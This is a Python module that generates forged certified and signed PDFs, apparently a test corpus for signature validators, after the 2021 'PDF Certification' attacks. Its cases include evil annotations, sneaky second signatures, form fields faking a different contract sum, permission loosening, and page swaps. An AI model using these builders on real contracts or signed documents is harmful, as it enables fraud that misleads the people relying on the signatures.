"""Attacks on certified documents: what DocMDP and FieldMDP allow is used to change what is read.

After "Breaking the Specification: PDF Certification" (S&P 2021): evil annotation, sneaky signature;
and games with the permissions themselves.
"""

from collections.abc import Callable

from attacks import pdf_forgeries as forge
from attacks.pdf_documents import plain, two_pages, with_form
from attacks.raw_signing import Draw, Raw, raw_signed
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec
from stand_ins.pki import Pki

Writer = IncrementalPdfFileWriter
Build = Callable[[Pki], bytes]

_OVER = (60, 690, 400, 730)
"""Where the sum of the sample document stands."""
_BESIDE = (226, 696, 300, 716)
"""The blank place right behind it."""
_BLANK = (300, 100, 500, 160)


def painted(commands: bytes, size: tuple[int, int]) -> Draw:
    """Return what makes an appearance of drawing commands."""

    def make(writer: Writer) -> generic.PdfObject:
        fonts = writer.root["/Pages"]["/Kids"][0]["/Resources"].raw_get("/Font")
        form = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, *size))),
                pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): fonts}),
            },
            stream_data=commands,
        )
        return writer.add_object(form)

    return make


_WHITE = painted(b"1 g 0 0 340 40 re f", (340, 40))
_OTHER_SUM = painted(
    b"1 g 0 0 340 40 re f 0 g BT /F1 18 Tf 12 10 Td (Contract: 999 RUB) Tj ET", (340, 40)
)
_NOUGHTS = painted(b"BT /F1 18 Tf 0 4 Td (000) Tj ET", (74, 20))
_STRIKE = painted(b"0 G 2 w 0 20 m 340 20 l S", (340, 40))
HONEST_MARK = painted(
    b"0.2 0.3 0.8 RG 1 w 2 2 196 56 re S BT /F1 10 Tf 8 25 Td (Signed) Tj ET", (200, 60)
)


def certified(pki: Pki, permission: int, document: bytes | None = None) -> bytes:
    """Return a document certified with this key."""
    return raw_signed(document or plain(), pki, Raw(name="Author", certify=permission))


def second_mark(draw: Draw, box: tuple[int, int, int, int], permission: int = 2) -> Build:
    """Return a certified document that is signed once more, with a mark of the attacker's choice."""

    def build(pki: Pki) -> bytes:
        first = certified(pki, permission)
        return raw_signed(first, pki, Raw(name="Second", box=box, draw=draw))

    return build


def countersigned(draw: Draw, box: tuple[int, int, int, int]) -> Build:
    """Return an ordinarily signed document that is signed once more, with such a mark."""

    def build(pki: Pki) -> bytes:
        first = raw_signed(plain(), pki)
        return raw_signed(first, pki, Raw(name="Second", box=box, draw=draw))

    return build


def noted(kind: str, permission: int, draw: Draw = _OTHER_SUM) -> Build:
    """Return a certified document with a note of some kind laid over the sum."""

    def change(writer: Writer) -> None:
        look = generic.DictionaryObject({pdf_name("/N"): draw(writer)})
        note = forge._note(kind, AP=look, Contents=generic.TextStringObject("999"))
        forge._annotate(writer, note)

    return lambda pki: forge.updated(change)(certified(pki, permission))


def changed(change: forge.Change, permission: int | None, document: bytes | None = None) -> Build:
    """Return a signed document, certified if a permission is given, with an update."""

    def build(pki: Pki) -> bytes:
        base = document or with_form()
        signed = raw_signed(base, pki) if permission is None else certified(pki, permission, base)
        return forge.updated(change)(signed)

    return build


def locked(action: FieldMDPAction, names: list[str] | None = None) -> Build:
    """Return a document whose signature locks fields, and that is filled in all the same."""

    def build(pki: Pki) -> bytes:
        lock = FieldMDPSpec(action, fields=names)
        signed = raw_signed(with_form(), pki, Raw(lock=lock))
        return forge.updated(forge.fill_honestly)(signed)

    return build


def certified_late(pki: Pki) -> bytes:
    """Certify a document that somebody signed before (PDF-13)."""
    return raw_signed(raw_signed(plain(), pki), pki, Raw(name="Author", certify=2))


def certified_twice(pki: Pki) -> bytes:
    """Certify a certified document anew, with a wider permission."""
    return raw_signed(certified(pki, 1), pki, Raw(name="Wider", certify=3))


def signed_after_all(pki: Pki) -> bytes:
    """Sign a document whose author allowed no changes."""
    return raw_signed(certified(pki, 1), pki, Raw(name="Second"))


def loosened(pki: Pki) -> bytes:
    """Certify anew with 3, then lay a note on it: the first word counts."""
    return forge.updated(forge.add_note)(certified_twice(pki))


def filled_with(value: str, shown: bytes, more: bytes = b"") -> forge.Change:
    """Fill the form with a value and another look."""

    def change(writer: Writer) -> None:
        forge._fill(writer, value, forge.written(shown, more)(writer))

    return change


def _moved_field(writer: Writer) -> None:
    """Let the field with the sum lie over the sum of the page."""
    reference = writer.root["/AcroForm"]["/Fields"].raw_get(0)
    field = reference.get_object()
    field[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, _OVER))
    field[pdf_name("/V")] = generic.TextStringObject("999")
    look = forge.written(b"999", b"1 g 0 0 200 20 re f")(writer)
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): look})
    writer.mark_update(reference)


def _scripted_field(writer: Writer) -> None:
    """Fill the form and let it run a script."""
    forge.fill_honestly(writer)
    field = writer.root["/AcroForm"]["/Fields"].raw_get(0).get_object()
    script = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("x")}
    field[pdf_name("/A")] = generic.DictionaryObject(script)


def _new_field(writer: Writer) -> None:
    """Add a text field of one's own over the sum."""
    look = generic.DictionaryObject({pdf_name("/N"): _OTHER_SUM(writer)})
    widget = forge._note(
        "/Widget",
        FT=pdf_name("/Tx"),
        T=generic.pdf_string("Own"),
        V=generic.pdf_string("999"),
        AP=look,
    )
    reference = forge._annotate(writer, widget)
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(reference)
    writer.update_container(fields)


def _other_defaults(writer: Writer) -> None:
    """Let every viewer draw the form anew, with white letters."""
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    form[pdf_name("/DA")] = generic.pdf_string("/F1 40 Tf 1 g")
    writer.update_container(form)


def form_under_text() -> bytes:
    """Return a form whose field lies over text that the page has."""
    return with_form().replace(b"/Rect [72 600 272 620]", b"/Rect [72 696 272 716]")


_ALL = (1, 2, 3)
CERTIFIED: dict[str, Build] = {
    **{
        f"evil note {kind} P={allowed}": noted(f"/{kind}", allowed)
        for kind in ("FreeText", "Stamp", "Square", "Redact", "Ink")
        for allowed in _ALL
    },
    "evil note without a look P=3": changed(forge.add_note, 3, plain()),
    "evil note, white P=3": noted("/Stamp", 3, _WHITE),
    "evil strike-out P=3": noted("/StrikeOut", 3, _STRIKE),
    **{
        f"sneaky mark {what} P={allowed}": second_mark(draw, box, allowed)
        for what, draw, box in (
            ("white", _WHITE, _OVER),
            ("other sum", _OTHER_SUM, _OVER),
            ("noughts behind", _NOUGHTS, _BESIDE),
            ("strike-out", _STRIKE, _OVER),
        )
        for allowed in _ALL
    },
    **{
        f"mark over a signed page, {what}": countersigned(draw, box)
        for what, draw, box in (
            ("white", _WHITE, _OVER),
            ("other sum", _OTHER_SUM, _OVER),
            ("noughts behind", _NOUGHTS, _BESIDE),
            ("strike-out", _STRIKE, _OVER),
        )
    },
    **{
        f"empty field paints P={allowed}": changed(
            forge.add_empty_signature_field, allowed, plain()
        )
        for allowed in _ALL
    },
    **{
        f"form shows another sum P={allowed}": changed(filled_with("100", b"999"), allowed)
        for allowed in _ALL
    },
    **{
        f"form says another sum P={allowed}": changed(filled_with("999", b"100"), allowed)
        for allowed in _ALL
    },
    **{
        f"form shows nothing P={allowed}": changed(forge.fill_text_field, allowed)
        for allowed in _ALL
    },
    **{f"form moved P={allowed}": changed(_moved_field, allowed) for allowed in _ALL},
    **{f"form scripted P={allowed}": changed(_scripted_field, allowed) for allowed in _ALL},
    **{f"form gets a field P={allowed}": changed(_new_field, allowed) for allowed in _ALL},
    **{f"form drawn anew P={allowed}": changed(_other_defaults, allowed) for allowed in _ALL},
    **{
        f"form filled over text P={allowed}": changed(
            filled_with("999", b"999", b"1 g 0 0 200 20 re f"), allowed, form_under_text()
        )
        for allowed in (2, 3)
    },
    "form filled without leave": changed(forge.fill_honestly, None),
    "form filled P=1": changed(forge.fill_honestly, 1),
    "fields locked, all": locked(FieldMDPAction.ALL),
    "fields locked, this one": locked(FieldMDPAction.INCLUDE, ["Sum"]),
    "fields locked, all but another": locked(FieldMDPAction.EXCLUDE, ["Other"]),
    "certified late": certified_late,
    "certified twice": certified_twice,
    "signed although forbidden": signed_after_all,
    "permission loosened": loosened,
    **{
        f"page replaced P={allowed}": changed(forge.replace_page_content, allowed, plain())
        for allowed in _ALL
    },
    **{
        f"page added P={allowed}": changed(forge.add_page, allowed, two_pages()) for allowed in _ALL
    },
}
